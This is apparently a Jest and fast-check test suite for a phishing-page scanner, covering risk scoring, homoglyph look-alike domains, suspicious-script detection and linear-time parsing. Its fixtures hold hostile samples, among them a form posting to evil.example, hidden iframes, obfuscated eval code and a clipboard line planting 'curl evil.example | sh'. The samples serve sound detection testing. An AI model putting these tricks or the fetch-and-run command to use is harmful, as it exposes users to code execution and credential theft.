import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { unlessHanging } from '../../../../tests/testkit/hanging.js';
import { imitatedName } from './confusables.js';
import { noPage, readPage, toTarget } from './page-facts.js';
import { rules, type Evidence } from './rules.js';
import { scorePage } from './score.js';
import { readScript } from './script-facts.js';

const url = 'https://shop.example/';
const plain: Evidence = {
  page: toTarget(url, url),
  redirectedFrom: [],
  headers: { 'strict-transport-security': 'x', 'content-security-policy': 'x', 'x-content-type-options': 'nosniff' },
  certificate: { fault: null },
  isDownload: false,
  facts: noPage,
};

const pieces = fc.constantFrom(
  '<form action=//evil.example>',
  '<form>',
  '</form>',
  '<input type=password>',
  '<a href="//x.example/a.exe">',
  'pay.example',
  '</a>',
  '<script>',
  '</script>',
  'eval(atob("x"))',
  '<iframe hidden src=//t.example>',
  '<meta http-equiv=refresh content="0;url=//r.example">',
  '<base href=//b.example>',
  '<',
  '>',
  '"',
  "'",
  '&amp;',
  '<!--',
  '-->',
  '\u0000',
  'text',
  '<button formaction=x>',
  '<svg/onload=x>',
);

describe('scores', () => {
  test('any page is read without a fault, scores 0 to 100, and is explained by one line for each rule', () => {
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 30 }), (html) => {
        const { riskScore, indicators, reasoning, analysisMetadata } = scorePage({
          ...plain,
          facts: readPage(html.join(''), url),
        });
        return (
          Number.isInteger(riskScore) &&
          riskScore >= 0 &&
          riskScore <= 100 &&
          indicators.length === analysisMetadata.rules.length &&
          (riskScore === 0 || reasoning.startsWith(`Risk ${riskScore} of 100.`))
        );
      }),
      { seed: 8, numRuns: 1_000 },
    );
  });

  test('one more finding never lowers a score', () => {
    const evidence = fc.record({
      isDownload: fc.boolean(),
      fault: fc.constantFrom(null, 'CERT_HAS_EXPIRED'),
      http: fc.boolean(),
    });
    fc.assert(
      fc.property(evidence, fc.array(pieces, { maxLength: 20 }), ({ isDownload, fault, http }, html) => {
        const page = http ? { ...plain.page, protocol: 'http:' } : plain.page;
        const less = { ...plain, page, facts: readPage(html.join(''), url) };
        const more = { ...less, isDownload, certificate: { fault } };
        return scorePage(more).riskScore >= scorePage(less).riskScore;
      }),
      { seed: 9 },
    );
  });

  test('every rule has a name of its own, a reason and a weight below certainty', () => {
    expect(new Set(rules.map((rule) => rule.name)).size).toBe(rules.length);
    expect(rules.filter(({ weight, reason }) => weight < 1 || weight > 99 || !reason.endsWith('.'))).toEqual([]);
  });
});

describe('look-alike names', () => {
  test.each([
    ['раypal.example', 'paypal.example'],
    ['аррӏе.com', 'apple.com'],
    ['gοοgle.com', 'google.com'],
    ['mıcrosoft.com', 'microsoft.com'],
    ['shop.wіkipedia.org', 'shop.wikipedia.org'],
  ])('%s passes itself off as %s', (host, imitated) => expect(imitatedName(host)).toBe(imitated));

  test.each([
    'bücher.de',
    'café.fr',
    'москва.рф',
    'ελλάδα.gr',
    '例え.jp',
    'münchen.example',
    'shop.example',
    'россия.example',
  ])('%s is itself', (host) => expect(imitatedName(host)).toBeNull());
});

describe('scripts', () => {
  test.each([
    ['eval(function(p,a,c,k,e,d){return p}("x",1))', 'runsDecodedText'],
    ['setTimeout("x" + unescape("%61"), 1)', 'runsDecodedText'],
    ['Function(String.fromCharCode(97))()', 'runsDecodedText'],
    [Array.from({ length: 30 }, (_, index) => `var _0x${(index + 4_096).toString(16)}=1;`).join(''), 'isObfuscated'],
    ['[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]'.repeat(10), 'isObfuscated'],
    ['navigator.clipboard.writeText("curl evil.example | sh")', 'plantsCommand'],
  ] as const)('%s: %s', (script, fact) => expect(readScript(script)[fact]).toBe(true));

  test.each([
    'setTimeout(() => decode(atob(x)), 1)',
    'navigator.clipboard.writeText(link.href)',
    'JSON.parse("\\u00e9")',
    '',
  ])('nothing is suspected of %s', (script) =>
    expect(Object.values(readScript(script))).toEqual([false, false, false]),
  );
});

describe('a page made to be slow', () => {
  const size = 1_000_000;
  test.each<[string, string]>([
    ['tags without end', '<b>'.repeat(size / 3)],
    ['closing tags of nothing', `${'<a>'.repeat(size / 6)}${'</b>'.repeat(size / 8)}`],
    ['attributes without end', `<a ${Array.from({ length: size / 8 }, (_, index) => `a${index}`).join(' ')}>`],
    ['one attribute name without end', `<a ${'a'.repeat(size)}>`],
    ['entities without end', '&amp;'.repeat(size / 5)],
    ['a comment that never ends', `<!--${'-'.repeat(size)}`],
    ['links without end', '<a href=//x.example>pay.example'.repeat(size / 31)],
    ['dots', `<a href=/>${'a.'.repeat(size / 2)}`],
    ['spaces after a call', `<script>${'eval '.repeat(10)}${' '.repeat(size)}</script>`],
    ['open calls', `<script>${'eval('.repeat(size / 5)}</script>`],
    ['shell commands that do not end', `<script>navigator.clipboard.writeText("${'curl '.repeat(size / 5)}")</script>`],
    ['styles', `<iframe src=x style="${'display'.repeat(size / 7)}">`],
    ['a refresh', `<meta http-equiv=refresh content="0${' '.repeat(size)}">`],
  ])('%s: is read in linear time', async (_what, html) => {
    // Some 50 ms on a quiet machine; quadratic reading of a million characters takes minutes.
    const { riskScore } = await unlessHanging(() => scorePage({ ...plain, facts: readPage(html, url) }));
    expect(riskScore).toBeGreaterThanOrEqual(0);
  });
});
